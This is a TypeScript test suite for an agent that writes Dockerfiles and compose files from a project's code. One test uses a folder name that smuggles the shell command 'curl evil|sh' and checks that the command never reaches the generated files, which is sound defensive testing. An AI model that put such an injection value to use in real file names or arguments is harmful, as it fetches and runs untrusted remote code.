import assert from 'node:assert/strict';
import { mkdtemp, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { after, before, describe, it } from 'mocha';
import { parse } from 'yaml';
import { devopsTargets } from '../../../../contract/work/devops-agent.ts';
import { factsOf } from '../../../../workspace/facts/testing/facts-of.ts';
import { createWorkspaceScan, type WorkspaceScan } from '../../../../workspace/workspace-scan.ts';
import { findFaults } from '../../../testing/devops/check-written.ts';
import { sampleServices } from '../../../testing/devops/random-services.ts';
import { learnServices } from './facts/learn-services.ts';
import { sampleProjects } from './facts/sample-projects.test.ts';
import { startedProjects } from './facts/started-projects.test.ts';
import { makeDevops } from './make-devops.ts';

const everything = { targets: [...devopsTargets], services: [] };

describe('the files of the DevOps agent', function () {
  this.timeout(300_000);
  let scanner: WorkspaceScan;
  let folder: string;
  before(async () => {
    scanner = createWorkspaceScan({});
    folder = await mkdtemp(path.join(tmpdir(), 'vireo-devops-'));
  });
  after(async () => {
    await scanner.dispose();
    await rm(folder, { recursive: true, force: true });
  });

  async function learn(files: Readonly<Record<string, string>>) {
    const place = { list: async () => Object.keys(files), read: async (file: string) => files[file] };
    return await learnServices(place, { facts: await factsOf(files), name: 'Sample' });
  }

  async function assertSound(files: ReadonlyMap<string, string | undefined>, name: string): Promise<void> {
    const own = path.join(folder, name.replaceAll(/\W+/g, '-'));
    assert.deepEqual(await findFaults(files, { scanner, folder: own }), [], name);
  }

  for (const { name, files, services } of [...sampleProjects, ...startedProjects]) {
    it(`are sound: ${name}`, async () => {
      const learnt = await learn(files);
      // What is there already is another file's test.
      const own = [...learnt.files].filter((file) => !file.endsWith('Dockerfile'));
      const made = makeDevops({ ...learnt, files: new Set(own), texts: new Map() }, everything);

      await assertSound(made.files, name);
      const images = [...made.files.keys()].filter((file) => file.endsWith('Dockerfile'));
      assert.equal(images.length, services.length);
    });
  }

  it('say the port, the health and the start that the code has', async () => {
    const [first] = sampleProjects;
    const { files, report } = makeDevops(await learn(first?.files ?? {}), everything);

    const image = files.get('Dockerfile') ?? '';
    assert.match(image, /^FROM node:22-slim AS build$/m);
    assert.match(image, /^RUN --mount=type=cache,target=\/root\/\.npm npm ci$/m);
    assert.match(image, /^EXPOSE 8080$/m);
    assert.match(image, /127\.0\.0\.1:8080\/internal\/healthz/);
    assert.match(image, /^CMD \["node", "src\/server\.js"\]$/m);
    const compose = parse(files.get('compose.yaml') ?? '');
    assert.equal(compose.services.postgres.image, 'postgres:16.4');
    assert.match(compose.services['orders-api'].environment.DATABASE_URL, /@postgres:5432\/postgres/);
    assert.deepEqual(compose.services['orders-api'].ports, ['127.0.0.1:8080:8080']);
    assert.match(report, /\| Health \| `\/internal\/healthz` \| `src\/health\.js:3` \|/);
  });

  it('have an image for each of two services in one folder', async () => {
    const django = sampleProjects.find(({ name }) => name === 'django with celery');
    const { files } = makeDevops(await learn(django?.files ?? {}), everything);

    const { services } = parse(files.get('compose.yaml') ?? '');
    assert.deepEqual(services['sample'].build, { context: '.' });
    assert.deepEqual(services['sample-worker'].build, {
      context: '.',
      dockerfile: 'sample-worker.Dockerfile',
    });
    assert.ok(files.has('sample-worker.Dockerfile'));
  });

  it('have names, ports and folders that nothing else takes', async () => {
    const server = (name: string) => ({
      'package.json': JSON.stringify({
        name,
        scripts: { start: 'node server.js' },
        dependencies: { express: '4' },
      }),
      'server.js': "import express from 'express';\nconst app = express();\napp.listen(3000);\n",
    });
    const inside = (folder: string, files: Record<string, string>) =>
      Object.fromEntries(Object.entries(files).map(([file, text]) => [`${folder}/${file}`, text]));
    const facts = await learn({
      ...inside('a', server('web')),
      ...inside('b', server('web')),
      ...inside('c', server('web-2')),
      ...inside('d', server('redis')),
      ...inside('e; curl evil|sh', server('evil')),
    });
    const { files } = makeDevops(facts, everything);

    const names = facts.services.map(({ name }) => name);
    assert.deepEqual(names, ['web', 'web-2', 'web-2-2', 'redis-app']);
    const { services } = parse(files.get('compose.yaml') ?? '');
    assert.deepEqual(
      Object.values<{ ports: string[] }>(services).flatMap(({ ports = [] }) => ports),
      [3000, 3001, 3002, 3003].map((port) => `127.0.0.1:${port}:3000`),
    );
    assert.ok(facts.unknown.some((sentence) => sentence.includes('curl evil')));
    for (const [file, text = ''] of files) assert.ok(!text.includes('curl evil'), file);
  });

  it('are none for what is not run, and say so', async () => {
    const library = sampleProjects.find(({ name }) => name === 'a library');
    const { files, notes, notSupported } = makeDevops(await learn(library?.files ?? {}), {
      targets: ['docker', 'kubernetes'],
      services: [],
    });

    assert.equal(files.size, 0);
    assert.match(notSupported ?? '', /^no program was found that this agent can describe/);
    assert.deepEqual(notes, [
      'docker: nothing was written, since there is no service that it could be written for.',
      'kubernetes: nothing was written, since there is no service that it could be written for.',
    ]);
  });

  it('are not supported for programs that it does not know, which are named', async () => {
    const others = {
      'api/pom.xml': '<project/>',
      'shop/composer.json': '{}',
      Gemfile: "gem 'rails'\n",
      'desk/Desk.csproj': '<Project/>',
    };
    const { files, notSupported } = makeDevops(await learn(others), { targets: [], services: [] });

    assert.equal(files.size, 0);
    assert.match(
      notSupported ?? '',
      /Found instead: Gemfile \(Ruby\), api\/pom\.xml \(Java or Kotlin\), desk\/Desk\.csproj \(\.NET\), shop\/composer\.json \(PHP\)\.$/,
    );
    const beside = {
      ...others,
      'index.html': '<p>',
      'web/package.json': '{"scripts":{"start":"node a.js"}}',
    };
    const { notes } = makeDevops(await learn(beside), { targets: [], services: [] });
    assert.ok(notes.includes('Not supported: api/pom.xml (Java or Kotlin).'), notes.join('\n'));
  });

  it('leave what works as it is, improve a Dockerfile by single changes, and name services that are not there', async () => {
    const [first] = sampleProjects;
    const image =
      '# Ours.\nFROM node:18-alpine\nWORKDIR /srv\nCOPY package*.json ./\nRUN npm install\nCOPY . .\nUSER node\nCMD ["node", "src/server.js"]\n';
    const compose = 'services:\n  db:\n    image: postgres:16.4-alpine\n';
    const there = {
      ...first?.files,
      Dockerfile: image,
      'compose.yaml': compose,
      '.github/workflows/x.yml': 'on: push\n',
    };
    const made = makeDevops(await learn(there), { targets: [], services: ['orders-api', 'none'] });

    assert.deepEqual([...made.files.keys()].toSorted(), ['.dockerignore', 'Dockerfile']);
    const better = made.files.get('Dockerfile') ?? '';
    assert.ok(
      image.split('\n').every((line) => line === 'RUN npm install' || better.includes(line)),
      better,
    );
    assert.match(better, /\nRUN npm ci\nCOPY \. \.\nUSER node\nEXPOSE 8080\nHEALTHCHECK /);
    assert.ok(made.notes.includes('There is no service none. There are: orders-api.'));
    assert.ok(made.notes.includes('Dockerfile is there already: single changes of it are offered.'));
    assert.ok(made.notes.includes('compose.yaml is there already, and stays as it is.'));
  });

  it('leave the health of another base to its author, and change what this agent wrote before', async () => {
    const [first] = sampleProjects;
    const written = makeDevops(await learn(first?.files ?? {}), { targets: ['docker'], services: [] }).files;
    const ours = `${written.get('Dockerfile')}`.replace('EXPOSE 8080', 'EXPOSE 9090');
    const again = makeDevops(await learn({ ...first?.files, Dockerfile: ours }), {
      targets: ['docker'],
      services: [],
    });
    const other = { ...first?.files, Dockerfile: 'FROM nginx:1.29\nEXPOSE 80\nCMD ["nginx"]\n' };
    const kept = makeDevops(await learn(other), { targets: ['docker'], services: [] });

    assert.equal(again.files.get('Dockerfile'), written.get('Dockerfile'));
    assert.ok(!kept.files.has('Dockerfile'));
  });

  describe('of a package that is installed with another one of the project', () => {
    const web = (more: object) =>
      JSON.stringify({
        name: '@acme/web',
        scripts: { start: 'node index.js' },
        dependencies: { express: '5', '@acme/shared': '1.0.0' },
        ...more,
      });
    const shared = JSON.stringify({ name: '@acme/shared', scripts: { build: 'tsc' } });
    const code = "import express from 'express';\nexpress().listen(3000);\n";
    const packages = {
      'packages/web/package.json': web({}),
      'packages/web/index.js': code,
      'packages/shared/package.json': shared,
    };
    const imageOf = async (files: Readonly<Record<string, string>>) =>
      makeDevops(await learn(files), { targets: ['docker', 'compose'], services: [] });

    it('have the repository as context, and build the other one first', async () => {
      for (const root of [
        { 'package.json': JSON.stringify({ private: true, workspaces: ['packages/*'] }) },
        {
          'package.json': JSON.stringify({ private: true, workspaces: { packages: ['packages/**'] } }),
          'yarn.lock': '',
        },
        { 'package.json': '{}', 'pnpm-workspace.yaml': 'packages:\n  - packages/*\n', 'pnpm-lock.yaml': '' },
      ]) {
        const { files } = await imageOf({ ...root, ...packages });
        const image = files.get('packages/web/Dockerfile') ?? '';
        assert.match(image, /^COPY \. \.\/$/m, JSON.stringify(root));
        assert.match(
          image,
          /^ && (?:npm run build --workspace=|yarn workspace |pnpm --filter )@acme\/shared/m,
        );
        const { services } = parse(files.get('compose.yaml') ?? '');
        assert.deepEqual(services.web.build, { context: '.', dockerfile: 'packages/web/Dockerfile' });
      }
    });

    it('are not written where the folder of the project has no workspace of both', async () => {
      for (const files of [
        packages,
        { ...packages, 'packages/package.json': JSON.stringify({ workspaces: ['*'] }) },
        {
          'package.json': web({ dependencies: { express: '5', '@acme/shared': 'file:../shared' } }),
          'index.js': code,
        },
      ]) {
        const { files: made, notes } = await imageOf(files);
        assert.ok(![...made.keys()].some((file) => file.endsWith('Dockerfile')), [...made.keys()].join());
        assert.match(notes.join(' '), /no image is written|open that folder as a project/);
        assert.match(notes.join(' '), /docker: nothing was written/);
      }
      const python = {
        'api/requirements.txt': '-e ../shared\nfastapi\n',
        'api/main.py': 'from fastapi import FastAPI\n\napp = FastAPI()\n',
      };
      assert.equal((await imageOf(python)).files.has('api/Dockerfile'), false);
    });
  });

  it('are sound for services of any kind', async () => {
    const samples = sampleServices(19, 5);
    for (const [index, services] of samples.entries()) {
      const made = makeDevops(
        { name: 'random', services, files: new Set(), texts: new Map(), others: [], unknown: [] },
        everything,
      );
      await assertSound(made.files, `random-${index}`);
    }
  });
});
